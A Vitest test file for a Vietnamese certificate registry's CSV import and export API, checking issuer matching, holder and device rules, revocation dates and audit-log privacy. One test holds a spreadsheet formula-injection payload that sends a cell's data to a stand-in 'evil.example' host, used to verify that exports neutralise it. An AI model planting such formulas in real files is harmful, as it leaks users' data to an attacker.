import { env, SELF } from 'cloudflare:test'
import { beforeAll, describe, expect, it } from 'vitest'
import { ADMIN, api, count, snapshot } from '../helpers/api'
import { given } from '../helpers/given'

const G2 = 'CN=CA phục vụ các cơ quan Nhà nước G2,O=Ban Cơ yếu Chính phủ,C=VN'
const HEAD = [
  'Họ tên',
  'Số CCCD',
  'Chức vụ',
  'Mã cơ quan',
  'Loại',
  'Số hiệu',
  'Tổ chức cấp',
  'Ngày hiệu lực',
  'Ngày hết hạn',
  'Số serial thiết bị',
  'Vân tay SHA-256',
  'Ngày thu hồi',
  'Lý do thu hồi',
  'Ngày mất an toàn khóa',
  'Ghi chú',
]
type Row = Partial<Record<(typeof HEAD)[number], string>>
const sheet = (rows: Row[]) =>
  [HEAD.join(';'), ...rows.map((r) => HEAD.map((h) => r[h] ?? '').join(';'))].join('\r\n')

async function upload(rows: Row[] | string, query = '') {
  const res = await SELF.fetch(`http://registry.test/api/v1/imports/certificates${query}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'text/csv' },
    body: typeof rows === 'string' ? rows : sheet(rows),
  })
  return (await res.json()) as any
}
const reasons = (result: any) => result.rejected.map((r: any) => `${r.column}: ${r.code}`)

let code: string
let n = 0
const serial = () => `6B${String(++n).padStart(6, '0')}`
const row = (fields: Row = {}): Row => ({
  'Họ tên': 'Trần Văn Nam',
  'Số CCCD': '001088000001',
  'Mã cơ quan': code,
  Loại: 'Cá nhân',
  'Số hiệu': serial(),
  'Tổ chức cấp': G2,
  'Ngày hiệu lực': '01/01/2026',
  'Ngày hết hạn': '31/12/2028',
  ...fields,
})

beforeAll(async () => {
  await api.post('/api/v1/issuers', { dn: G2, aliases: ['Ban Cơ yếu Chính phủ'] })
  code = (await given.agency({ code: 'SNV', name: 'Sở Nội vụ' })).code
})

describe('the import follows the rules of the API', () => {
  it('matches issuers by registered name or alias, rejects an unknown one in the dry run, and never registers a serial twice by spelling', async () => {
    const s = serial()
    const dry = await upload(
      [
        row({ 'Số hiệu': s, 'Tổ chức cấp': 'Ban Cơ yếu Chính phủ' }),
        row({ 'Tổ chức cấp': 'CA Lạ' }),
      ],
      '?dryRun=true'
    )
    expect(dry).toMatchObject({ created: 1 })
    expect(reasons(dry)).toEqual(['Tổ chức cấp: issuer-unknown'])
    await upload([row({ 'Số hiệu': s, 'Tổ chức cấp': 'Ban Cơ yếu Chính phủ' })])
    const again = await upload(
      [row({ 'Số hiệu': s, 'Tổ chức cấp': G2.toUpperCase() })],
      '?dryRun=true'
    )
    expect(again).toMatchObject({ created: 0, unchanged: 1, rejected: [] })
    expect(await count('certificates', 'serial = ?1', s)).toBe(1)
    expect((await api.get(`/api/v1/status/${s}`)).body.issuer).toBe(G2)
  })

  it('reads back a certificate recorded under an issuer not registered, and still refuses new ones under it', async () => {
    // Recorded through the API (from its file, say) under a CA the registry does not know.
    const stranger = 'CN=CA Chưa đăng ký,O=Tổ chức khác,C=VN'
    const holder = await given.holder(
      (await api.get(`/api/v1/agencies?q=${code}`)).body.items[0].id
    )
    const s = serial()
    expect(
      (
        await api.post('/api/v1/certificates', {
          kind: 'personal',
          serial: s,
          issuer: stranger,
          subject: `CN=${holder.fullName},C=VN`,
          holderId: holder.id,
          notBefore: '2026-01-01T00:00:00+07:00',
          notAfter: '2028-12-31T23:59:59+07:00',
        })
      ).status
    ).toBe(201)
    const res = await SELF.fetch(`http://registry.test/api/v1/exports/certificates.csv?q=${s}`, {
      headers: { authorization: `Bearer ${ADMIN}` },
    })
    const exported = await res.text()
    expect(exported).toContain(s)
    // Its own export reads back unchanged: the row names a certificate already recorded.
    expect(await upload(exported, '?dryRun=true')).toMatchObject({
      created: 0,
      unchanged: 1,
      rejected: [],
    })
    // A new serial under the same unregistered name is still refused.
    const before = await snapshot()
    const fresh = await upload([row({ 'Tổ chức cấp': stranger })], '?atomic=true')
    expect(fresh.code).toBe('import-rejected')
    expect(reasons(fresh)).toEqual(['Tổ chức cấp: issuer-unknown'])
    expect(await snapshot()).toEqual(before)
  })

  it('stores a date without a time as the start (valid from) or the end (expiry) of that Vietnam day', async () => {
    const s = serial()
    await upload([row({ 'Số hiệu': s, 'Số CCCD': '001088000002', 'Họ tên': 'Lê Thị Mai' })])
    const stored = (await api.get(`/api/v1/certificates?q=${s}`)).body.items[0]
    expect(stored).toMatchObject({
      notBefore: '2025-12-31T17:00:00.000Z',
      notAfter: '2028-12-31T16:59:59.000Z',
    })
  })

  it('changes only what the department owns: a row whose validity, subject or fingerprint differs is rejected', async () => {
    const s = serial()
    const base = row({ 'Số hiệu': s, 'Số CCCD': '001088000003', 'Họ tên': 'Đỗ Văn Hùng' })
    await upload([base])
    const dry = await upload(
      [
        { ...base, 'Ngày hết hạn': '31/12/2099' },
        {
          ...base,
          'Số hiệu': s,
          'Vân tay SHA-256': 'A'.repeat(64),
          'Ngày hết hạn': base['Ngày hết hạn'],
        },
      ],
      '?dryRun=true'
    )
    expect(reasons(dry)).toEqual(['Ngày hết hạn: ca-field-differs', 'Số hiệu: same-as-line'])
    const fingerprint = await upload([{ ...base, 'Vân tay SHA-256': 'A'.repeat(64) }])
    expect(fingerprint).toMatchObject({ updated: 1 }) // none on record yet: the sheet may fill it
    const changed = await upload([{ ...base, 'Vân tay SHA-256': 'B'.repeat(64) }], '?dryRun=true')
    expect(reasons(changed)).toEqual(['Vân tay SHA-256: ca-field-differs'])
    expect(changed.rejected[0].reason).toContain('do CA ký')
    const note = await upload([{ ...base, 'Ghi chú': 'Hồ sơ số 12', 'Chức vụ': 'Phó Giám đốc' }])
    expect(note).toMatchObject({ updated: 1 })
    expect((await api.get(`/api/v1/certificates?q=${s}`)).body.items[0].note).toBe('Hồ sơ số 12')
  })

  it('matches a holder with a CCCD only by that CCCD: never a namesake with another one', async () => {
    const s = serial()
    await upload([row({ 'Số hiệu': s, 'Họ tên': 'Nguyễn Văn Tài', 'Số CCCD': '001088000010' })])
    const dry = await upload(
      [
        // The registered certificate, given to a namesake with another CCCD: refused.
        row({ 'Số hiệu': s, 'Họ tên': 'Nguyễn Văn Tài', 'Số CCCD': '001088000011' }),
        // A new certificate of the namesake: a new holder, not the first one.
        row({ 'Họ tên': 'Nguyễn Văn Tài', 'Số CCCD': '001088000011' }),
      ],
      '?dryRun=true'
    )
    expect(reasons(dry)).toEqual(['Số CCCD: certificate-of-other-holder'])
    expect(dry).toMatchObject({ created: 1, holdersCreated: 1 })
    // A namesake registered without a CCCD is not guessed at.
    const agency = (await api.get(`/api/v1/agencies?q=${code}`)).body.items[0]
    await given.holder(agency.id, { fullName: 'Phan Văn Lộc' })
    const unsure = await upload(
      [row({ 'Họ tên': 'Phan Văn Lộc', 'Số CCCD': '001088000012' })],
      '?dryRun=true'
    )
    expect(reasons(unsure)).toEqual(['Số CCCD: holder-without-cccd'])
  })

  it('keeps the device rule: a row may not put a certificate beside another person’s', async () => {
    const agency = (await api.get(`/api/v1/agencies?q=${code}`)).body.items[0]
    const owner = await given.holder(agency.id, {
      fullName: 'Chu Văn Sơn',
      nationalId: '001088000020',
    })
    const device = await given.device(agency.id)
    await given.certificate(owner.id, { deviceId: device.id })
    const dry = await upload(
      [
        row({
          'Họ tên': 'Vũ Thị Lan',
          'Số CCCD': '001088000021',
          'Số serial thiết bị': device.serial,
        }),
      ],
      '?dryRun=true'
    )
    expect(reasons(dry)).toEqual(['Số serial thiết bị: device-carries-other'])
  })

  it('records nothing under a merged agency, nor for a holder who left', async () => {
    const gone = await given.agency({ code: 'X.CU', name: 'UBND xã Cũ' })
    const heir = await given.agency({ code: 'X.MOI', name: 'UBND xã Mới' })
    await api.post(`/api/v1/agencies/${gone.id}/merge`, { successorId: heir.id })
    const agency = (await api.get(`/api/v1/agencies?q=${code}`)).body.items[0]
    const retired = await given.holder(agency.id, {
      fullName: 'Lý Văn Hưu',
      nationalId: '001088000030',
    })
    await api.post(`/api/v1/holders/${retired.id}/leave`, { status: 'retired' })
    const before = await snapshot()
    const result = await upload(
      [
        row({ 'Mã cơ quan': 'X.CU', 'Số CCCD': '001088000031' }),
        row({ 'Họ tên': 'Lý Văn Hưu', 'Số CCCD': '001088000030' }),
      ],
      '?atomic=true'
    )
    expect(result.code).toBe('import-rejected')
    expect(result.rejected.map((r: any) => `${r.column}: ${r.code}`)).toEqual([
      'Mã cơ quan: agency-not-active',
      'Họ tên: holder-left',
    ])
    expect(await snapshot()).toEqual(before)
  })

  it('reads revocations with their invalidity date, by the same rules as the API', async () => {
    const s = serial()
    const base = row({ 'Số hiệu': s, 'Họ tên': 'Mai Văn Tâm', 'Số CCCD': '001088000040' })
    await upload([base])
    const early = await upload(
      [{ ...base, 'Ngày thu hồi': '01/06/2025', 'Lý do thu hồi': '1' }],
      '?dryRun=true'
    )
    expect(reasons(early)).toEqual(['Ngày thu hồi: revoked-before-valid'])
    const revoked = await upload([
      {
        ...base,
        'Ngày thu hồi': '15/03/2026 10:00',
        'Lý do thu hồi': '1 keyCompromise',
        'Ngày mất an toàn khóa': '10/03/2026',
      },
    ])
    expect(revoked).toMatchObject({ revoked: 1, updated: 1, rejected: [] })
    const cert = (await api.get(`/api/v1/certificates?q=${s}`)).body.items[0]
    expect(cert).toMatchObject({
      status: 'revoked',
      revokedAt: '2026-03-15T03:00:00.000Z',
      invalidityDate: '2026-03-09T17:00:00.000Z',
      reason: { code: 1 },
    })
  })

  it('exports formula-like cells neutralised, and reads them back as they were', async () => {
    const s = serial()
    const formula = '=HYPERLINK("http://evil.example/?"&B2;"xem")'
    await upload([
      row({
        'Số hiệu': s,
        'Họ tên': 'Hà Văn Công',
        'Số CCCD': '001088000050',
        'Ghi chú': `"${formula.replace(/"/g, '""')}"`,
      }),
    ])
    expect((await api.get(`/api/v1/certificates?q=${s}`)).body.items[0].note).toBe(formula)
    const csv = await (
      await SELF.fetch(`http://registry.test/api/v1/exports/certificates.csv?q=${s}`, {
        headers: { authorization: `Bearer ${ADMIN}` },
      })
    ).text()
    expect(csv).toContain(`"'=HYPERLINK(`)
    expect(csv).not.toMatch(/[,;]=HYPERLINK/)
    const back = await upload(csv, '?dryRun=true')
    expect(back).toMatchObject({ unchanged: 1, updated: 0, rejected: [] })
  })

  it("keeps what it wrote in the audit log, never a rejected row's raw cells (a misplaced CCCD)", async () => {
    const misplaced = '036089004455'
    const result = await upload([
      row({ 'Số hiệu': misplaced, 'Số CCCD': 'không có' }),
      row({ 'Ngày hết hạn': misplaced }),
      row({ 'Số serial thiết bị': `CCCD ${misplaced}`, 'Mã cơ quan': misplaced }),
    ])
    expect(result.rejected.length).toBeGreaterThan(0)
    const log = JSON.stringify((await api.get('/api/v1/audit?action=import.run&limit=5')).body)
    expect(log).toContain('rejected')
    const stored = await env.DB.prepare(
      "SELECT group_concat(coalesce(after, ''), ' ') AS text FROM audit_log WHERE request_id LIKE 'imp_%' OR action LIKE 'import%'"
    ).first<{ text: string }>()
    expect(stored!.text).not.toContain(misplaced)
  })
})
